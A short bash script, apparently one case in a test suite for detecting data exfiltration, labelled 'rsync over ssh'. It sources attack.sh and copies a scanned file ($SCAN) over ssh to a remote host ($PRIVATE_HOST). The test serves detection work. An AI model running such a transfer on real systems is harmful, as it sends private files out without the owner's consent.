#!/usr/bin/env bash
# technique: rsync over ssh
# hooks: file_open (of the scan), file_permission
# sink: private-ssh

. attack.sh
timeout 20 rsync -e "ssh -p $PORT_SSH" "$SCAN" "keeper@$PRIVATE_HOST:$here.tif"
